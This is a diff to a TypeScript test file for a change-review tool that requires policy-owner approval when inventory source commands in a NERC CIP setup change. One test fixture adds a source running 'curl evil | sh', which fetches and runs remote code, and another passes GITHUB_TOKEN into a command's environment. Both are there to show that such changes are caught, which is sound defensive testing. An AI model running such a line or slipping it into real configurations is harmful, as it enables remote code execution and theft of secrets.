@@ -16,6 +16,7 @@ import {
 import { parsePolicyText } from "../../../../src/core/review/policy/file/parse-policy.ts";
 import type { ApprovalFact } from "../../../../src/core/review/policy/policy-model.ts";
 import { recordedGovernanceOf } from "../../../../src/core/review/policy/recorded-subjects.ts";
+import { sourceCommandsOf } from "../../../../src/core/sources/source-commands.ts";
 
 const POLICY = `version: 1
 rules:
@@ -30,7 +31,11 @@ const HIGH = alpha("impact: high\nowners: [alice, bob]\n");
 const LOW =
   "cyber_system: Bravo Relays\nfacility: Substation Bravo\nimpact: low\nowners: [carol]\nassets: {}\n";
 
-const FILES = { policy: "cip-policy.yaml", review: "cip-002-review.yaml" };
+const FILES = {
+  policy: "cip-policy.yaml",
+  review: "cip-002-review.yaml",
+  sources: "cip-sources.yaml",
+};
 
 function sources(
   files: Record<string, string>,
@@ -832,5 +837,90 @@ rules:
       id: "rule-lifted",
       governs: 'the base rule "high-impact-deletes", which cip-policy.yaml removes or weakens',
     });
+  });
+});
+
+describe("a source's command is a change to the rules, by the policy owners at the base", () => {
+  const SOURCES = `version: 1
+sources:
+  - name: discovery
+    kind: command
+    run: [node, scripts/export-assets.mjs]
+    systems: [Delta Substation]
+    out: inventory/discovery/
+`;
+  const withSources = (text: string | undefined): RuleSources => ({
+    ...sources({ "inventory/alpha.yaml": HIGH, "inventory/bravo.yaml": LOW }),
+    sourceCommands: sourceCommandsOf(text, "cip-sources.yaml"),
+  });
+  const SOURCED = withSources(SOURCES);
+  const UNMET = 'rule "source-command-change" is unmet: 1 more approval needed from alice and bob';
+
+  it.each<[string, string | undefined, string[], string[]]>([
+    [
+      "its program changed, approved by a non-owner",
+      SOURCES.replace("node,", "bash,"),
+      ["mallory"],
+      [UNMET],
+    ],
+    [
+      "its program changed, approved by a policy owner",
+      SOURCES.replace("node,", "bash,"),
+      ["bob"],
+      [],
+    ],
+    [
+      "a variable of the run's environment passed to it",
+      SOURCES.replace("    out:", "    env: [GITHUB_TOKEN]\n    out:"),
+      ["mallory"],
+      [UNMET],
+    ],
+    [
+      "a command source added",
+      `${SOURCES}  - name: more\n    kind: command\n    run: [sh, -c, "curl evil | sh"]\n    systems: [Echo]\n    out: inventory/more/\n`,
+      ["mallory"],
+      [UNMET],
+    ],
+    ["the file removed", undefined, ["mallory"], [UNMET]],
+    ["the file broken", `${SOURCES}sources: []\n`, ["mallory"], [UNMET]],
+    [
+      "where it writes changed: not its command",
+      SOURCES.replace("inventory/discovery/", "inventory/found/"),
+      ["mallory"],
+      [],
+    ],
+  ])("%s", (_case, headText, approvers, reasons) => {
+    const { policy } = parsePolicyText(POLICY, "cip-policy.yaml");
+    const changes = governanceChanges(SOURCED, withSources(headText), FILES);
+    const verdict = evaluatePolicy(policy!, {
+      operations: [],
+      baseSystems: new Map(),
+      approvals: approvers.map(approval),
+      memberships: [],
+      now: 0,
+      governance: governanceRequirements(policy!, changes, SOURCED),
+    }).verdict;
+    expect(verdict).toEqual({ allowed: reasons.length === 0, reasons });
+  });
+
+  it("words the change, and a review event judges what the comment recorded", () => {
+    const changes = governanceChanges(
+      SOURCED,
+      withSources(SOURCES.replace("node,", "bash,")),
+      FILES,
+    );
+    expect(changes).toEqual([
+      {
+        kind: "source-commands",
+        file: "cip-sources.yaml",
+        changes: [
+          'source "discovery": run ["node","scripts/export-assets.mjs"] with env [] -> run ["bash","scripts/export-assets.mjs"] with env []',
+        ],
+      },
+    ]);
+    const recorded = recordedGovernanceOf(
+      JSON.parse(JSON.stringify({ governance: recordGovernance(changes) })),
+    );
+    expect(withRecordedGovernance([], recorded!, SOURCED)).toEqual(changes);
   });
 });
